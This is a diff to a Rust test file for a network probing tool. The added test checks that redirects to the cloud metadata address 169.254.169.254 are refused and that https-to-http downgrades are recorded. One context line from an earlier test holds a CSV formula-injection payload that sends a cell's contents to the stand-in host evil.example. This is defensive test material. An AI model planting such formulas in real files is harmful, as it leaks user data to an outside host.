@@ -309,3 +309,76 @@ async fn issue_11_csv_cells_cannot_inject_formulas() {
         "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
     );
 }
+
+/// Item 12: a redirect into a reserved range the target is not on (a cloud metadata address)
+/// is not followed and is recorded; an https -> http redirect is recorded as a downgrade.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn issue_11_redirects_to_reserved_addresses_are_refused_and_downgrades_recorded() {
+    use blockprobe::mocknet::dns::MockDns;
+    use blockprobe::mocknet::origin::Origin;
+    use blockprobe::mocknet::pki::Pki;
+    let lo = crate::support::ip("127.0.0.1");
+    let pki = Pki::generate("redirect test CA").unwrap();
+    let tls = pki
+        .server_config(&["ok.test", "169.254.169.254"], &[b"http/1.1"])
+        .unwrap();
+    let origin = Origin::start(lo, Some(tls.clone())).await.unwrap();
+    // Stands in for 169.254.169.254 (through --connect-to): must never see a connection.
+    let metadata = Origin::start(lo, Some(tls)).await.unwrap();
+    let plain = Origin::start(lo, None).await.unwrap();
+    let zone = || Zone::new(Behaviour::Answer(vec![lo]));
+    let vantage = MockDns::start(lo, 0, zone(), None).await.unwrap();
+    let control = MockDns::start(lo, 0, zone(), None).await.unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let ca = dir.path().join("ca.pem");
+    std::fs::write(&ca, pki.ca_pem()).unwrap();
+    let o = origin.addr.port();
+    let meta_port = 8169;
+    let to_metadata =
+        format!("https://ok.test:{o}/redirect/169.254.169.254:{meta_port}/latest/meta-data/");
+    let downgrade = format!(
+        "https://ok.test:{o}/redirect-http/ok.test:{}/",
+        plain.addr.port()
+    );
+    let out = run([
+        "scan".to_owned(),
+        "--resolver".into(),
+        format!("isp=udp://{}", vantage.udp),
+        "--control-resolver".into(),
+        format!("ctl=udp://{}", control.udp),
+        "--ca-file".into(),
+        ca.display().to_string(),
+        "--canary".into(),
+        "ok.test".into(),
+        "--injection-window".into(),
+        "0".into(),
+        "--timeout".into(),
+        "2s".into(),
+        "--connect-to".into(),
+        format!("169.254.169.254:{meta_port}={}", metadata.addr),
+        "--quiet".into(),
+        to_metadata.clone(),
+        downgrade.clone(),
+    ])
+    .await;
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let recs = jsonl(&out.stdout);
+    assert_eq!(
+        metadata.connections(),
+        0,
+        "the metadata address was fetched"
+    );
+    let r = crate::support::find(&recs, &to_metadata);
+    let hops = r["evidence"]["direct"]["hops"].as_array().unwrap();
+    assert_eq!(hops.len(), 1, "{r:#}");
+    let refused = hops[0]["refused_redirect"].as_str().unwrap_or_default();
+    assert!(
+        refused.contains("169.254.169.254 (link-local address) not followed"),
+        "{r:#}"
+    );
+    let r = crate::support::find(&recs, &downgrade);
+    let hops = r["evidence"]["direct"]["hops"].as_array().unwrap();
+    assert_eq!(hops.len(), 2, "{r:#}");
+    assert_eq!(hops[1]["downgrade"], true, "{r:#}");
+    assert!(plain.connections() > 0);
+}
